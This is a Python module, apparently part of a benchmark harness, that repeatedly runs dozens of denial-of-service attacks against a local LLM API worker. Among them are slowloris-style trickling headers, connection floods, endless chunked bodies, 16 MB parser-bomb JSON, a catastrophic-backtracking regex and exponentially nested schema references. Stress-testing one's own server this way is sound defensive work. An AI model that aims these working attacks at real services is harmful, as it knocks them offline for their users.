"""What a client can do to a worker, one function for each attack: ``python -m bench.victim.attacks NAME --port N``.

Runs until it is killed: an attack that has ended begins again. Some need an API key, the others have none.
"""

import argparse
import base64
import contextlib
import itertools
import os
import resource
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import orjson

from bench.servers import HOST

_MB = 1 << 20
# One byte less than MAX_BODY_BYTES, which is 16 MB.
_MAX = 16 * _MB - 1


class _Socket(socket.socket):
    """Counts the bytes of all of them."""

    moved = 0

    def send(self, data: Any, flags: int = 0) -> int:
        sent = super().send(data, flags)
        _Socket.moved += sent
        return sent

    def sendall(self, data: Any, flags: int = 0) -> None:
        rest = memoryview(data)
        while rest:
            rest = rest[self.send(rest[:_MB], flags) :]

    def recv(self, size: int, flags: int = 0) -> bytes:
        data = super().recv(size, flags)
        _Socket.moved += len(data)
        return data


def _report() -> None:
    """How much the attack has sent and received so far: MB, a line every 0.1 s, once it has begun."""
    while True:
        if _Socket.moved:
            sys.stdout.write(f"{_Socket.moved / _MB:.6f}\n")
            sys.stdout.flush()
        time.sleep(0.1)


@dataclass(frozen=True, slots=True)
class Target:
    """``model``: one that the hostile upstream answers."""

    port: int
    key: str
    model: str

    def connect(self) -> socket.socket:
        sock = _Socket()
        sock.settimeout(60)
        try:
            sock.connect((HOST, self.port))
        except OSError:
            sock.close()
            raise
        return sock

    def head(
        self, path: str, *more: str, method: str = "POST", key: str | None = None, length: int | None = 0
    ) -> bytes:
        """The head of a request. ``length`` None: a body in HTTP chunks."""
        lines = [
            f"{method} {path} HTTP/1.1",
            "Host: localhost",
            f"Authorization: Bearer {self.key if key is None else key}",
            "Content-Type: application/json",
            "Transfer-Encoding: chunked" if length is None else f"Content-Length: {length}",
            *more,
        ]
        return ("\r\n".join(lines) + "\r\n\r\n").encode()

    def ask(self, path: str, body: bytes, *more: str) -> None:
        """One request with a key, its answer read to the end and dropped."""
        with self.connect() as sock:
            sock.sendall(self.head(path, "Connection: close", *more, length=len(body)) + body)
            while sock.recv(_MB):
                pass


Attack = Callable[[Target], None]

_CHAT, _MESSAGES, _RESPONSES = "/v1/chat/completions", "/v1/messages", "/v1/responses"


def _send_for_ever(sock: socket.socket, piece: bytes) -> None:
    while True:
        sock.sendall(piece)


def _read_all(sock: socket.socket) -> None:
    """Reads and drops what comes, in a thread of its own."""

    def read() -> None:
        with contextlib.suppress(OSError):
            while sock.recv(_MB):
                pass

    threading.Thread(target=read, daemon=True).start()


def _endless_body(path: str, method: str, key: str, chunk: bytes | None = None) -> Attack:
    def attack(target: Target) -> None:
        with target.connect() as sock:
            _read_all(sock)
            length = (1 << 60) if chunk is None else None
            sock.sendall(target.head(path, method=method, key=key, length=length))
            _send_for_ever(sock, b"a" * _MB if chunk is None else chunk)

    return attack


_WRONG = "sk-wrong"
_LARGE_CHUNK = b"%x\r\n%b\r\n" % (_MB, b"a" * _MB)
_TINY_CHUNKS = b"1\r\na\r\n" * 100_000


def _pipelined(path: str, *, reads: bool, connections: int = 1) -> Attack:
    """Requests that do not wait for answers."""

    def one(target: Target) -> None:
        with target.connect() as sock:
            if reads:
                _read_all(sock)
            _send_for_ever(sock, f"GET {path} HTTP/1.1\r\nHost: a\r\n\r\n".encode() * 200)

    return lambda target: _at_once(connections, one, target)


def _at_once(threads: int, one: Attack, target: Target) -> None:
    def run() -> None:
        with contextlib.suppress(OSError):
            one(target)

    running = [threading.Thread(target=run, daemon=True) for _ in range(threads)]
    for thread in running:
        thread.start()
    for thread in running:
        thread.join()


def _many(target: Target, count: int, first: bytes) -> list[socket.socket]:
    """So many connections, each with these bytes sent, as far as the server takes them."""
    socks = []
    for _ in range(count):
        try:
            sock = target.connect()
            sock.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                sock.send(first)
            socks.append(sock)
        except OSError:
            break
    return socks


def half_heads(target: Target) -> None:
    socks = _many(target, 4200, b"GET / HTTP/1.1\r\nHost: localhost\r\nX-A: ")
    time.sleep(20)
    for sock in socks:
        sock.close()


def silent_connections(target: Target) -> None:
    socks = _many(target, 4200, b"")
    time.sleep(20)
    for sock in socks:
        sock.close()


def fat_heads(target: Target) -> None:
    """Heads of 800 KB whose end does not come."""
    line = b"X-A: " + b"a" * 8000 + b"\r\n"
    socks = _many(target, 1000, b"GET / HTTP/1.1\r\nHost: localhost\r\n")
    for _ in range(95):
        for sock in socks:
            with contextlib.suppress(OSError):
                sock.send(line)
    time.sleep(10)
    for sock in socks:
        sock.close()


def trickling_heads(target: Target) -> None:
    """500 heads that come byte by byte."""
    socks = _many(target, 500, b"GET / HTTP/1.1\r\nHost: localhost\r\nX-A: " + b"a" * 4000 + b"\r\nX-B: ")
    while socks:
        for sock in list(socks):
            try:
                sock.send(b"a")
            except BlockingIOError:
                continue
            except OSError:
                socks.remove(sock)


def forwarded_hops(target: Target) -> None:
    """As many addresses as fit into the head."""
    hops = ",".join(["127.0.0.1"] * 800)
    _again_and_again(target, target.head("/v1/models", *[f"X-Forwarded-For: {hops}"] * 95, method="GET"))


def slashes(target: Target) -> None:
    _again_and_again(target, target.head("/v1" + "/a" * 4000, method="GET", key=_WRONG))


def many_fields(target: Target) -> None:
    more = [f"X-{number}: {'a' * 8000}" for number in range(94)]
    _again_and_again(target, target.head("/v1/models", *more, method="GET", key=_WRONG))


def _again_and_again(target: Target, request: bytes) -> None:
    """One request after another, over one connection."""
    with target.connect() as sock:
        while True:
            sock.sendall(request)
            while b"\r\n\r\n" not in sock.recv(_MB):
                pass


def connection_flood(target: Target) -> None:
    def one(target: Target) -> None:
        while True:
            with target.connect() as sock:
                sock.sendall(b"GET /nowhere HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
                while sock.recv(65536):
                    pass

    _at_once(16, one, target)


def wrong_keys(target: Target) -> None:
    body = b"a" * 100_000
    request = target.head(_CHAT, "Connection: close", key=_WRONG, length=len(body)) + body

    def one(target: Target) -> None:
        while True:
            with target.connect() as sock:
                sock.sendall(request)
                while sock.recv(65536):
                    pass

    _at_once(16, one, target)


def unread_answers(target: Target) -> None:
    """4,200 connections that ask for the same page until nothing more can be sent, and read nothing."""
    ask = b"GET /openapi.json HTTP/1.1\r\nHost: localhost\r\n\r\n" * 100
    socks = _many(target, 4200, ask)
    time.sleep(20)
    for sock in socks:
        sock.close()


def endless_trailers(target: Target) -> None:
    with target.connect() as sock:
        _read_all(sock)
        sock.sendall(target.head(_CHAT, length=None) + b"0\r\n")
        _send_for_ever(sock, b"a: b\r\n" * 10_000)


# With a key


def _post(path: str, make: Callable[[Target], Any], *headers: str, threads: int = 1) -> Attack:
    """The same request again and again, from so many threads. ``make`` gives its body, or the bytes of it."""

    def attack(target: Target) -> None:
        body = make(target)
        data = body if isinstance(body, bytes) else orjson.dumps(body)

        def one(target: Target) -> None:
            while True:
                target.ask(path, data, *headers)

        _at_once(threads, one, target)

    return attack


def _chat(*, content: Any = "hello", **more: Any) -> Callable[[Target], Any]:
    def make(target: Target) -> Any:
        return {"model": target.model, "stream": True, "messages": [{"role": "user", "content": content}], **more}

    return make


def _filled(before: bytes, item: bytes, after: bytes, between: bytes = b",") -> Callable[[Target], bytes]:
    """A body of 16 MB: as many items as fit. ``MODEL`` becomes the model's name."""

    def make(target: Target) -> bytes:
        first, last = (part.replace(b"MODEL", target.model.encode()) for part in (before, after))
        times = (_MAX - len(first) - len(last)) // (len(item) + len(between))
        return first + between.join([item] * times) + last

    return make


_HELLO = b'"messages":[{"role":"user","content":"hello"}]'


def _schema(schema: Any) -> Callable[[Target], Any]:
    wanted = {"type": "json_schema", "json_schema": {"name": "a", "schema": schema}}
    return _chat(response_format=wanted, stream=False)


def _nested_references(depth: int) -> Any:
    """Each definition names the next one twice: the work doubles with each."""
    definitions = {
        f"d{number}": {"allOf": [{"$ref": f"#/$defs/d{number + 1}"}, {"$ref": f"#/$defs/d{number + 1}"}]}
        for number in range(depth)
    }
    return {"$defs": {**definitions, f"d{depth}": {"type": "string"}}, "$ref": "#/$defs/d0"}


def half_bodies(target: Target) -> None:
    """200 requests, of whose bodies of 16 MB one half comes."""
    head = target.head(_CHAT, length=_MAX)
    socks = []
    for _ in range(200):
        try:
            sock = target.connect()
            sock.sendall(head)
            sock.settimeout(2)
            sock.sendall(b"a" * (8 * _MB))
            socks.append(sock)
        except OSError:
            # The server takes no more for now.
            socks.append(sock)
    time.sleep(20)
    for sock in socks:
        sock.close()


def waiting_requests(target: Target) -> None:
    """40 whole requests of 16 MB at once, each answered slowly."""
    body = _filled(b'{"model":"MODEL","stream":true,"messages":[{"role":"user","content":"', b"word ", b'"}]}', b"")(
        target
    )
    _at_once(40, lambda target: target.ask(_CHAT, body), target)


def slow_bodies(target: Target) -> None:
    """500 bodies that come byte by byte."""
    socks = _many(target, 500, target.head(_CHAT, length=_MAX))
    while socks:
        for sock in list(socks):
            try:
                sock.send(b"a")
            except BlockingIOError:
                continue
            except OSError:
                socks.remove(sock)


def tiny_chunks(target: Target) -> None:
    """A whole request, one byte per HTTP chunk."""
    body = orjson.dumps(_chat(content="a" * (2 * _MB))(target))
    data = b"".join(b"1\r\n%c\r\n" % byte for byte in body) + b"0\r\n\r\n"
    while True:
        with target.connect() as sock:
            sock.sendall(target.head(_CHAT, "Connection: close", length=None) + data)
            while sock.recv(_MB):
                pass


def idempotent_text(target: Target) -> None:
    body = _filled(
        b'{"model":"MODEL","stream":true,"messages":[{"role":"user","content":"', "中".encode(), b'"}]}', b""
    )(target)
    for number in itertools.count():
        target.ask(_CHAT, body, f"Idempotency-Key: {number}-{time.monotonic_ns()}")


def conversation_text(target: Target) -> None:
    body = _filled(
        b'{"model":"MODEL","stream":true,"messages":[{"role":"user","content":"', "中".encode(), b'"}]}', b""
    )(target)
    for number in itertools.count():
        target.ask(f"{_CHAT}/c{number}-{time.monotonic_ns()}", body)


def ask_again(target: Target) -> None:
    """Short requests: what makes them an attack is the answer."""
    _post(_CHAT, _chat())(target)


def ask_for_whole(target: Target) -> None:
    _post(_CHAT, _chat(stream=False))(target)


def ask_ten_for_whole(target: Target) -> None:
    _post(_CHAT, _chat(stream=False), threads=10)(target)


def ask_ten_and_read_nothing(target: Target) -> None:
    body = orjson.dumps(_chat()(target))
    socks = _many(target, 10, target.head(_CHAT, length=len(body)) + body)
    time.sleep(20)
    for sock in socks:
        sock.close()


# Files of 50 MB, 20 at once. Each chat gives its file a name of its own, so that it is sent on to Kimi.

_FILE_BYTES, _FILES_AT_ONCE = 50 * _MB, 20
# Of the site that files are fetched from.
FILES_PORT = 18_093


def _text_file() -> bytes:
    return b"0123456789abcde\n" * (_FILE_BYTES // 16)


def _ask_with_files(target: Target, part: Callable[[str], dict[str, Any]], path: str = _CHAT) -> None:
    """``part``: with a file, under a name."""
    numbers = itertools.count()

    def one(target: Target) -> None:
        while True:
            content = [part(f"file-{next(numbers)}.txt")]
            body = {"model": target.model, "stream": True, "messages": [{"role": "user", "content": content}]}
            target.ask(path, orjson.dumps(body))

    _at_once(_FILES_AT_ONCE, one, target)


def files_by_id(target: Target) -> None:
    with target.connect() as sock:
        form = b'--b\r\nContent-Disposition: form-data; name="%b"%b\r\n\r\n'
        body = form % (b"purpose", b"") + b"user_data\r\n" + form % (b"file", b'; filename="a.txt"') + _text_file()
        body += b"\r\n--b--\r\n"
        head = target.head("/v1/files", "Connection: close", length=len(body))
        sock.sendall(head.replace(b"application/json", b"multipart/form-data; boundary=b") + body)
        answer = b""
        while piece := sock.recv(_MB):
            answer += piece
    file_id = orjson.loads(answer.partition(b"\r\n\r\n")[2])["id"]
    _ask_with_files(target, lambda name: {"type": "file", "file": {"file_id": file_id, "filename": name}})


def files_by_address(target: Target) -> None:
    body = _text_file()
    head = f"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"

    def answer(sock: socket.socket) -> None:
        with contextlib.suppress(OSError), sock:
            sock.recv(65_536)
            sock.sendall(head.encode() + body)

    def serve(listener: socket.socket) -> None:
        while True:
            sock, _ = listener.accept()
            threading.Thread(target=answer, args=(sock,), daemon=True).start()

    listener = socket.create_server((HOST, FILES_PORT), backlog=64)
    threading.Thread(target=serve, args=(listener,), daemon=True).start()
    address = f"http://{HOST}:{FILES_PORT}"
    _ask_with_files(target, lambda name: {"type": "image_url", "image_url": {"url": f"{address}/{name}"}})


def files_in_bodies(target: Target) -> None:
    """In base64."""
    content = base64.b64encode(_text_file())
    numbers = itertools.count()
    before = b'{"model":"%b","stream":true,"messages":[{"role":"user","content":[{"type":"file","file":{"filename":"'

    def one(target: Target) -> None:
        while True:
            first = before % target.model.encode() + b'file-%d.txt","file_data":"' % next(numbers)
            body = b"".join((first, content, b'"}}]}]}'))
            with target.connect() as sock:
                sock.sendall(target.head(_CHAT, "Connection: close", length=len(body)))
                sock.sendall(body)
                while sock.recv(_MB):
                    pass

    _at_once(_FILES_AT_ONCE, one, target)


def nothing(target: Target) -> None:
    """One request, and no more."""
    _at_once(1, lambda target: target.ask(_CHAT, b""), target)
    time.sleep(3600)


def _texts(before: str, item: str, after: str) -> Callable[[Target], bytes]:
    return _filled(before.encode(), item.encode(), after.encode(), b"")


_ONE_TEXT = ('{"model":"MODEL","stream":true,"messages":[{"role":"user","content":"', '"}]}')
_TWO_TEXTS = (
    '{"model":"MODEL","stream":true,"messages":[{"role":"system","content":"Be kind."},{"role":"user","content":"',
    '"}]}',
)
_ONE_USER = b'{"role":"user","content":"a"}'

ATTACKS: dict[str, Attack] = {
    # Without a key
    "endless body, wrong key": _endless_body(_CHAT, "POST", _WRONG),
    "endless chunks, wrong key": _endless_body(_CHAT, "POST", _WRONG, _LARGE_CHUNK),
    "endless tiny chunks, wrong key": _endless_body(_CHAT, "POST", _WRONG, _TINY_CHUNKS),
    "endless body, unknown path": _endless_body("/nowhere", "POST", _WRONG),
    "endless body, wrong method": _endless_body(_CHAT, "PUT", _WRONG),
    "endless body, health check": _endless_body("/healthz", "GET", _WRONG),
    "pipelined requests": _pipelined("/nowhere", reads=True),
    "pipelined requests, 50 connections": _pipelined("/nowhere", reads=True, connections=50),
    "pipelined documentation, 50 connections": _pipelined("/docs", reads=True, connections=50),
    "pipelined console, 50 connections": _pipelined("/console/", reads=True, connections=50),
    "pipelined pages, unread": unread_answers,
    "trickling heads": trickling_heads,
    "half heads": half_heads,
    "silent connections": silent_connections,
    "fat heads": fat_heads,
    "forwarded hops": forwarded_hops,
    "slashes": slashes,
    "many header fields": many_fields,
    "connection flood": connection_flood,
    "wrong keys": wrong_keys,
    # With a key: the body
    "endless tiny chunks": _endless_body(_CHAT, "POST", "", _TINY_CHUNKS),
    "endless trailers": endless_trailers,
    "tiny chunks": tiny_chunks,
    "half bodies": half_bodies,
    "slow bodies": slow_bodies,
    "waiting requests": waiting_requests,
    # With a key: what it says
    "400,000 messages": _post(_CHAT, _filled(b'{"model":"MODEL","messages":[', _ONE_USER, b"]}")),
    "parts": _post(
        _CHAT,
        _filled(b'{"model":"MODEL","messages":[{"role":"user","content":[', b'{"type":"text","text":"a"}', b"]}]}"),
    ),
    "tools": _post(_CHAT, _filled(b'{"model":"MODEL",' + _HELLO + b',"tools":[', b"{}", b"]}")),
    "unknown fields": _post(
        _CHAT,
        lambda target: (
            b'{"model":"%b",%b,' % (target.model.encode(), _HELLO)
            + b",".join(b'"f%d":1' % number for number in range(1_200_000))
            + b"}"
        ),
    ),
    "numbers": _post(_CHAT, _filled(b'{"model":"MODEL",' + _HELLO + b',"metadata":{"a":[', b"1", b"]}}")),
    "empty objects": _post(_CHAT, _filled(b'{"model":"MODEL",' + _HELLO + b',"metadata":{"a":[', b"{}", b"]}}")),
    "brackets": _post(_CHAT, lambda _: b"[" * _MAX),
    "broken JSON": _post(_CHAT, _filled(b'{"model":"MODEL","messages":[', _ONE_USER, b"")),
    "16 MB of ASCII": _post(_CHAT, _texts(_ONE_TEXT[0], "word ", _ONE_TEXT[1])),
    "16 MB of Chinese": _post(_CHAT, _texts(_TWO_TEXTS[0], "中", _TWO_TEXTS[1])),
    "16 MB, one of it an emoji": _post(_CHAT, _texts(_TWO_TEXTS[0] + "🦊", "word ", _TWO_TEXTS[1])),
    "16 MB of escapes": _post(_CHAT, _texts(_TWO_TEXTS[0], "\\u4e2d", _TWO_TEXTS[1])),
    "16 MB of quotes": _post(_CHAT, _texts(_TWO_TEXTS[0], '\\"', _TWO_TEXTS[1])),
    "16 MB of white space": _post(_CHAT, _texts(_TWO_TEXTS[0], " ", _TWO_TEXTS[1])),
    "16 MB counted": _post(
        _MESSAGES + "/count_tokens", _texts('{"model":"MODEL","messages":[{"role":"user","content":"', "a1-", '"}]}')
    ),
    "16 MB with usage": _post(_CHAT, _texts(_ONE_TEXT[0].replace('"stream":true,', ""), "a1-", _ONE_TEXT[1])),
    "model of 16 MB": _post(_CHAT, _texts('{"model":"', "a", '",' + _HELLO.decode() + "}")),
    "name of 16 MB": _post(_CHAT, _texts(_ONE_TEXT[0] + 'a","name":"', "中", _ONE_TEXT[1])),
    "idempotent, 16 MB": idempotent_text,
    "conversations, 16 MB": conversation_text,
    "400,000 input items": _post(_RESPONSES, _filled(b'{"model":"MODEL","store":false,"input":[', _ONE_USER, b"]}")),
    "input references": _post(
        _RESPONSES, _filled(b'{"model":"MODEL","input":[', b'{"type":"item_reference","id":"msg_a_1_1"}', b"]}")
    ),
    "tool results": _post(
        _MESSAGES,
        _filled(
            b'{"model":"MODEL","max_tokens":9,"messages":[{"role":"user","content":['
            b'{"type":"tool_result","tool_use_id":"a","content":[',
            b'{"type":"text","text":"a"}',
            b"]}]}]}",
        ),
    ),
    "prompt of numbers": _post("/v1/completions", _filled(b'{"model":"MODEL","prompt":[', b"1", b"]}")),
    "stop sequences": _post(
        _MESSAGES,
        lambda target: {
            "model": target.model,
            "max_tokens": 9000,
            "stream": True,
            "messages": [{"role": "user", "content": "hello"}],
            "stop_sequences": [f"stop{number}" for number in range(1_000_000)],
        },
    ),
    "one long stop sequence": _post(_CHAT, lambda target: _chat(stop="a" * 8_000_000)(target)),
    "schema of 16 MB": _post(
        _CHAT,
        _filled(
            b'{"model":"MODEL",' + _HELLO + b',"response_format":{"type":"json_schema","json_schema":{"name":"a",'
            b'"schema":{"enum":[',
            b"1",
            b"]}}}}",
        ),
    ),
    "unique objects": _post(_CHAT, _schema({"type": "array", "uniqueItems": True})),
    "pattern": _post(_CHAT, _schema({"type": "string", "pattern": "^(a+)+$"})),
    "nested references": _post(_CHAT, _schema(_nested_references(40))),
    "schemas, 20 at once": _post(_CHAT, _schema(_nested_references(40)), threads=20),
    "files by id": files_by_id,
    "files by address": files_by_address,
    "files in bodies": files_in_bodies,
    # The upstream's doing
    "ask again": ask_again,
    "ask for a whole answer": ask_for_whole,
    "ask for ten whole answers": ask_ten_for_whole,
    "ask and read nothing": ask_ten_and_read_nothing,
    "nothing": nothing,
}


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m bench.victim.attacks", description=__doc__)
    parser.add_argument("name", choices=sorted(ATTACKS))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--key", required=True)
    parser.add_argument("--model", required=True)
    options = parser.parse_args()
    # The victim's stream and its reader come first.
    os.nice(10)
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    target = Target(options.port, options.key, options.model)
    threading.Thread(target=_report, daemon=True).start()
    for _ in _endlessly():
        with contextlib.suppress(OSError):
            ATTACKS[options.name](target)


def _endlessly() -> Iterator[None]:
    """Not at full speed where an attack is refused at once."""
    while True:
        yield
        time.sleep(0.05)


if __name__ == "__main__":
    main()
